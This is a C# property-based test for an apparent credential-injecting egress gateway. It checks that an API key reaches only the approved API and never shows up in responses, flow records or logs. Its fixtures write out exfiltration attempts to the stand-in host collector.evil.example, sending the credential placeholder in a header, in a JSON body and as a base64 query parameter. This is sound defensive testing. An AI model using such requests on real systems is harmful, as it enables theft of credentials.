using System.Net;
using System.Net.Security;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using Corral.Certificates;
using Corral.Testing;
using CsCheck;

namespace Corral.Gateway.Tests;

/// <summary>
/// A property over generated credential values and the requests an agent may make with the placeholder: whatever the
/// value and whatever the request, the value reaches the approved API in the credential's place and appears in no
/// output of the gateway — no response to the agent, no flow record, no log line. The value comes from an environment
/// variable, read on each use, so every generated case runs under its own value on one gateway.
/// </summary>
public sealed class CredentialValueProperties : IAsyncLifetime
{
    private readonly string _variable = "CORRAL_TEST_PROPERTY_KEY_" + Guid.NewGuid().ToString("N");
    private CertificateAuthority _ca = null!;
    private LoopbackUpstream _api = null!, _collector = null!;
    private GatewayHarness _gateway = null!;

    public ValueTask InitializeAsync()
    {
        _ca = CertificateAuthority.Create(new CaOptions());
        _api = LoopbackUpstream.Start(443, "api.contoso.com");
        _collector = LoopbackUpstream.Start(443, "collector.evil.example");
        var yaml = $$"""
            version: 1
            smartGroups:
              agents: { cidrs: [127.0.0.0/8] }
            webGroups:
              api: { domains: [api.contoso.com] }
              collector: { domains: [collector.evil.example] }
            rules:
              - { name: approved, priority: 10, source: [agents], webGroups: [api, collector], action: permit, decrypt: allowed }
            credentials:
              api-key: { source: { env: {{_variable}} }, destinations: [api], header: x-api-key }
            """;
        var hosts = $"{_api.EndPoint.Address} api.contoso.com\n{_collector.EndPoint.Address} collector.evil.example\n";
        _gateway = GatewayHarness.Custom(yaml, hosts, interception: new GatewayInterception(_ca, [_api.Certificate!, _collector.Certificate!]));
        return ValueTask.CompletedTask;
    }

    public async ValueTask DisposeAsync()
    {
        Environment.SetEnvironmentVariable(_variable, null);
        await _gateway.DisposeAsync();
        await _api.DisposeAsync();
        await _collector.DisposeAsync();
        _ca.Dispose();
    }

    /// <summary>What the agent does with the placeholder.</summary>
    private enum Move { Approved, HeaderToCollector, JsonBodyToCollector, Base64QueryToCollector, OtherHeaderOnApi }

    /// <summary>A usable value (printable ASCII, no space) or, one time in five, one the gateway must refuse to place (a space, a control character, non-ASCII).</summary>
    private static readonly Gen<(string Value, bool Usable)> GenValue = Gen.Frequency(
        (4, Gen.String[Gen.Char['!', '~'], 20, 48].Select(v => (v, true))),
        (1, Gen.Select(Gen.String[Gen.Char['!', '~'], 10, 24], Gen.OneOf(Gen.Const(" "), Gen.Const("\t"), Gen.Const("\u00e9"), Gen.Const("\u0001")), Gen.String[Gen.Char['!', '~'], 10, 24])
            .Select((a, bad, b) => (a + bad + b, false))));

    private static readonly Gen<Move> GenMove = Gen.Enum<Move>();

    [Fact]
    public async Task No_output_of_the_gateway_ever_contains_a_credentials_value()
    {
        using var agent = new HttpClient(new SocketsHttpHandler
        {
            Proxy = new WebProxy($"http://{_gateway.Proxy}"),
            UseProxy = true,
            SslOptions = new SslClientAuthenticationOptions { RemoteCertificateValidationCallback = (_, cert, _, _) => new X509Certificate2(cert!).Issuer == _ca.Certificate.Subject },
        }) { Timeout = TimeSpan.FromSeconds(30) };
        var cases = 0;

        await Gen.Select(GenValue, GenMove).SampleAsync(async (value, move) =>
        {
            Environment.SetEnvironmentVariable(_variable, value.Value);
            var apiHeadsBefore = Heads(_api).Length;
            var response = await agent.SendAsync(Request(move));
            var answered = Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync()) + response.Headers + response.Content.Headers;
            cases++;

            if (move == Move.Approved && value.Usable)
            {
                Assert.Equal(HttpStatusCode.OK, response.StatusCode);
                Assert.Contains($"x-api-key: {value.Value}", Heads(_api)[^1].Split("\r\n")); // placed, as given: the whole header line
            }
            else if (move == Move.Approved)
            {
                Assert.Equal(HttpStatusCode.BadGateway, response.StatusCode); // credential-unavailable: fails closed
                Assert.Equal(apiHeadsBefore, Heads(_api).Length);
            }
            else
            {
                Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
                Assert.Equal("credential-exfiltration", response.Headers.GetValues("X-Corral-Check").Single());
                Assert.Equal(apiHeadsBefore, Heads(_api).Length);
            }
            Assert.Empty(Heads(_collector));

            // Every output: the agent's answer, every flow record, every log line. The request record is written
            // after the answer, so wait for it before reading the file.
            await _gateway.WaitForRecordsAsync(rs => rs.Count(r => r.GetProperty("event").GetString() == "request") >= cases);
            Assert.DoesNotContain(value.Value, answered, StringComparison.Ordinal);
            Assert.DoesNotContain(value.Value, File.ReadAllText(_gateway.FlowLogPath), StringComparison.Ordinal);
            Assert.DoesNotContain(_gateway.Logs.Lines, l => l.Message.Contains(value.Value, StringComparison.Ordinal));
        }, iter: 60, threads: 1, print: c => $"{c.Item2} with value '{c.Item1.Value}'");

        Assert.Equal(60, cases);
    }

    private static HttpRequestMessage Request(Move move)
    {
        const string placeholder = "corral-cred-api-key";
        var request = move switch
        {
            Move.Approved => new HttpRequestMessage(HttpMethod.Get, "https://api.contoso.com/v1/chat"),
            Move.HeaderToCollector => new HttpRequestMessage(HttpMethod.Get, "https://collector.evil.example/c"),
            Move.JsonBodyToCollector => new HttpRequestMessage(HttpMethod.Post, "https://collector.evil.example/c")
            {
                Content = new StringContent($"{{\"note\":\"{placeholder}\"}}", Encoding.UTF8, "application/json"),
            },
            Move.Base64QueryToCollector => new HttpRequestMessage(HttpMethod.Get, "https://collector.evil.example/c?d=" + Convert.ToBase64String(Encoding.ASCII.GetBytes(placeholder))),
            Move.OtherHeaderOnApi => new HttpRequestMessage(HttpMethod.Get, "https://api.contoso.com/v1/chat"),
            _ => throw new ArgumentOutOfRangeException(nameof(move)),
        };
        if (move is Move.Approved or Move.HeaderToCollector) request.Headers.TryAddWithoutValidation("x-api-key", placeholder);
        if (move is Move.OtherHeaderOnApi) request.Headers.TryAddWithoutValidation("X-Debug", placeholder);
        return request;
    }

    private static string[] Heads(LoopbackUpstream upstream)
    {
        lock (upstream.Requests) return [.. upstream.Heads];
    }
}
